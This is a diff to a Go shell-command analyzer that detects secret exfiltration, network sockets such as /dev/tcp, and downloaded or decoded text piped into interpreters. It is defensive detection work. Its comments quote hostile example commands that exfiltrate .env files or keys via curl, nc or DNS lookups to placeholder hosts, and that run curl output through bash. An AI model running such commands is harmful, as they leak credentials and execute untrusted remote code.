@@ -96,6 +96,14 @@ func (z *analyzer) pipeline(c *syntax.BinaryCmd, in state) {
 		if f.runsStdin && network != "" || f.network && shell != "" {
 			z.dangerous(escalates, "connects a shell to the network, for another host to run commands here: %s", z.text(c))
 		}
+		if download != "" {
+			// curl … | tar -xz: what it extracts came from the network.
+			for i := start; i < len(z.sink.meta); i++ {
+				if d := z.sink.meta[i].extractDir; d != "" {
+					z.sink.downloadedDirs = append(z.sink.downloadedDirs, d)
+				}
+			}
+		}
 		if f.download && download == "" {
 			download = f.text
 		}
@@ -228,7 +236,7 @@ func (z *analyzer) streamDanger(start int, w wordInfo, st state, input bool) {
 			for i := start; i < len(z.sink.meta); i++ {
 				z.sink.meta[i].secretOut = true
 			}
-			if f.sendsStdin {
+			if f.sendsStdin || z.anySocket(start) {
 				z.dangerous(leaks, "sends a secret over the network: %s < %s (%s)", text, w.text, why)
 			}
 		}
@@ -246,7 +254,20 @@ func runsCode(prog string) bool {
 // substitutions that print secrets (curl -d "$(cat .env)", nslookup
 // "$(cat key | base64).x.example").
 func (z *analyzer) sendsSecrets(c *cmd) {
+	for _, w := range c.argv[1:] {
+		v := w.val
+		if _, after, ok := strings.Cut(v, "="); ok {
+			v = after
+		}
+		if strings.HasPrefix(v, "/dev/tcp/") || strings.HasPrefix(v, "/dev/udp/") {
+			z.sink.meta[c.idx].socket = true
+		}
+	}
 	m := z.sink.meta[c.idx]
+	if m.socket && m.secretOut {
+		z.dangerous(leaks, "%s writes secrets to a network socket: %s", c.base, c.text)
+		return
+	}
 	for _, f := range m.sent {
 		if why := z.secretWord(f, c.st); why != "" {
 			z.dangerous(leaks, "%s sends %s over the network: %s (%s)", c.base, f.text, c.text, why)
@@ -262,4 +283,42 @@ func (z *analyzer) sendsSecrets(c *cmd) {
 			return
 		}
 	}
+}
+
+// hereDanger judges a here-document or here-string whose substitutions
+// (the commands from subs on) feed the statement's commands (from start to
+// subs): a download or decoded text fed to a shell or interpreter runs
+// hidden code (bash <<< "$(curl …)"); secrets fed to a network client
+// leave (nc host <<< "$(cat .env)").
+func (z *analyzer) hereDanger(start, subs int, st state) {
+	if subs <= start || subs >= len(z.sink.meta) {
+		return
+	}
+	fed := z.factsSince(subs)
+	var stmt facts
+	for i := start; i < subs; i++ {
+		m := z.sink.meta[i]
+		c := z.sink.a.Commands[i]
+		stmt.runsStdin = stmt.runsStdin || m.interp
+		stmt.sendsStdin = stmt.sendsStdin || m.sendsStdin || stdinSenders[c.Program]
+		if stmt.text == "" {
+			stmt.text = c.Text
+		}
+	}
+	switch {
+	case stmt.runsStdin && (fed.download || fed.decode):
+		z.dangerous(escalates, "feeds downloaded or decoded text to a shell or interpreter, hidden from review: %s", stmt.text)
+	case stmt.sendsStdin && fed.secretOut:
+		z.dangerous(leaks, "feeds what %s prints (secrets) to a network client: %s", fed.text, stmt.text)
+	}
+}
+
+// anySocket reports whether a command since start names a network socket.
+func (z *analyzer) anySocket(start int) bool {
+	for i := start; i < len(z.sink.meta); i++ {
+		if z.sink.meta[i].socket {
+			return true
+		}
+	}
+	return false
 }
